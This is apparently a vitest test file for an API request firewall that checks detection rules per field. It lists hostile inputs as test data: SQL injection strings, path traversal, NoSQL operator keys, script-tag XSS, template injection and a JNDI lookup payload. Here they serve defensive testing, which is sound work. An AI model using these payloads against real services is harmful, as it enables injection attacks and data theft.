import { type Operation, operations } from '@countersign/contract';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { Budget, judgeText } from './judge.ts';
import { operationShape, queryPlace, shapeOf, textsOf } from './values.ts';

const all: readonly Operation[] = Object.values(operations);
function judged(id: keyof typeof operations, part: 'params' | 'query' | 'body' | 'form', value: unknown) {
  const budget = new Budget();
  for (const { text, place, field } of textsOf(value, operationShape(operations[id])[part], part)) {
    const found = judgeText(text, place, { budget });
    if (found) return { ...found, field };
  }
  return undefined;
}

const PAYLOAD = "' OR '1'='1' --";
const ID = `doc_${'0'.repeat(26)}`;

describe('firewall class of a field', () => {
  it('declares a class for every text field of every operation', () => {
    const unclassified: string[] = [];
    for (const { id, params, query, body } of all) {
      const told = (path: string) => unclassified.push(`${id}${path}`);
      for (const schema of [
        params,
        query,
        body?.kind === 'json' ? body.schema : body?.json,
        body?.kind === 'multipart' ? body.fields : undefined,
      ])
        if (schema) shapeOf(schema, told);
    }
    expect(unclassified).toEqual([]);
  });

  it('detects a text field without a declared class', () => {
    const unclassified: string[] = [];
    shapeOf(z.object({ a: z.array(z.object({ b: z.string() })) }), (path) => unclassified.push(path));
    expect(unclassified).toEqual(['.a[].b']);
  });

  it('allows opaque values: passwords, tokens, patterns, anchors', () => {
    expect(judged('login', 'body', { email: 'anna@example.com', password: PAYLOAD })).toBeUndefined();
    expect(judged('confirmEmailChange', 'body', { token: PAYLOAD })).toBeUndefined();
    const field = { kind: 'text', validation: { pattern: '(a|b)+$(id)`id`' }, anchor: { text: '{{7*7}}' } };
    expect(judged('sendForSigning', 'body', { signers: [], fields: [field] })).toBeUndefined();
    expect(queryPlace(operationShape(operations.getDocumentPlacements), 'anchor')).toBeUndefined();
  });

  it('allows an ID only in the format of its kind', () => {
    expect(judged('getDocument', 'params', { id: ID })).toBeUndefined();
    expect(judged('getDocument', 'params', { id: `${ID}' OR 1=1--` })?.ruleId).toBe('sql-breakout');
  });

  it('blocks prose only if it contains a complete attack, and reports the position of the attack', () => {
    expect(
      judged('updateDocument', 'body', { title: `O'Brien & Sons -- "select" terms <draft>; drop by` }),
    ).toBeUndefined();
    expect(judged('updateDocument', 'body', { title: PAYLOAD })).toMatchObject({
      ruleId: 'sql-breakout',
      field: 'body.title',
    });
    expect(judged('listDocuments', 'query', { search: 'See ../annex' })).toBeUndefined();
    expect(judged('listDocuments', 'query', { sortBy: '../annex' })?.ruleId).toBe('path-traversal');
  });

  it('inspects property names and properties that are not in the contract', () => {
    expect(judged('updateDocument', 'body', { $where: '1' })?.ruleId).toBe('operator-key');
    expect(judged('updateDocument', 'body', { unknown: { deep: [PAYLOAD] } })?.ruleId).toBe('sql-breakout');
    expect(judged('login', 'body', { email: { $ne: null }, password: 'x' })?.ruleId).toBe('operator-key');
  });

  it('skips text that is longer than the contract allows', () => {
    const email = '\r\n'.repeat(500_000);
    expect(judged('login', 'body', { email, password: 'x' })).toBeUndefined();
    expect(judged('login', 'body', { email: `${PAYLOAD}@example.com`, password: 'x' })?.ruleId).toBe('sql-breakout');
  });

  it('inspects text that exceeds the length limit only because of spaces at its end', () => {
    const title = `<script>alert(1)</script>${' '.repeat(2000)}`;
    expect(operations.updateDocument.body.schema.safeParse({ title }).success).toBe(true);
    expect(judged('updateDocument', 'body', { title })?.ruleId).toBe('script-tag');
  });

  it('inspects the JSON in a form part according to its contract', () => {
    const roles = JSON.stringify([{ name: "Buyer's agent", order: 1 }]);
    expect(judged('createTemplate', 'form', { roles })).toBeUndefined();
    expect(
      judged('createTemplate', 'form', { roles: JSON.stringify([{ name: '<script>alert(1)</script>' }]) })?.ruleId,
    ).toBe('script-tag');
  });

  it('applies the rules for prose to every row of a bulk send', () => {
    const rows = [{ 'Buyer.email': 'a@example.com', Note: "O'Neil; see <annex>" }];
    expect(judged('checkBulkSend', 'body', { rows })).toBeUndefined();
    expect(judged('checkBulkSend', 'body', { rows: [{ Note: '${jndi:ldap://a.example/x}' }] })?.ruleId).toBe(
      'lookup-jndi',
    );
  });
});
